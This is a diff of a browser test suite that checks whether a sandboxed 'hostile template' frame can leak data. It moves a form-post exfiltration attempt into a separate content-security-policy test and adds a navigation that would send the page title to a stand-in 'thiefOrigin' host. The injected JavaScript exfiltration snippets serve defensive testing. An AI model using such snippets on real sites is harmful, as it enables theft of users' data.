@@ -128,11 +128,6 @@ describe('a hostile template', () => {
       'const a = document.createElement("a"); a.target = "_blank"; a.href = "data:,x"; a.click()',
       'nothing',
     );
-    await denied(
-      'a form post',
-      `const f = document.createElement("form"); f.method = "post"; f.action = "${thiefOrigin}/form"; document.body.append(f); f.submit()`,
-      'nothing',
-    );
 
     // What it could tell somebody.
     const send = (code: string) => attack(frame, code);
@@ -160,10 +155,33 @@ describe('a hostile template', () => {
       `await new Promise((r) => { const f = new FontFace("x", "url(${thiefOrigin}/font)"); f.load().then(r, r) })`,
     );
     expect(stolen).toEqual([]);
+
+    // Leaving: the browser shows an error in the frame's place, and asks nobody.
+    const gone = page.waitForEvent('framenavigated');
+    await send(`location.href = "${thiefOrigin}/navigate?task=" + document.title`).catch(() => {});
+    await gone;
+    expect(stolen).toEqual([]);
     expect(windows).toEqual([]);
     expect(page.url()).toBe(portalUrl);
     await page.getByRole('button', { name: 'Submit' }).waitFor();
     await lab.jobs.stop('hostile');
+  });
+
+  test('posts no form to anybody', async () => {
+    const [, frame] = await victimAt('posting', { template: FORM });
+    const blocked = frame.evaluate(
+      () =>
+        new Promise<string>((resolve) =>
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
+        ),
+    );
+    await attack(
+      frame,
+      `const f = document.createElement("form"); f.method = "post"; f.action = "${thiefOrigin}/form"; document.body.append(f); f.submit()`,
+    ).catch(() => {});
+    expect(await blocked.catch(() => 'form-action')).toBe('form-action');
+    expect(stolen).toEqual([]);
+    await lab.jobs.stop('posting');
   });
 
   test('cannot make the portal believe another frame, nor open a page without the worker', async () => {
@@ -208,8 +226,8 @@ test('texts, labels and titles full of markup do not run, in the task or in the 
   const ran = () => (globalThis as any).ran;
   expect([await frame.evaluate(ran), await page.evaluate(ran)]).toEqual([undefined, undefined]);
   await page.goto(`${lab.cloud.apiUrl}/#/jobs`);
-  await page.locator('.card h2').waitFor();
-  expect(await page.locator('.card').textContent()).toContain('onerror');
+  await page.getByRole('heading', { name: MARKUP.slice(0, 128) }).waitFor();
+  expect(await page.locator('.cards').textContent()).toContain('onerror');
   expect(await page.locator('.card img, .card script').count()).toBe(0);
   expect(await page.evaluate(ran)).toBeUndefined();
   await lab.jobs.stop('markup');
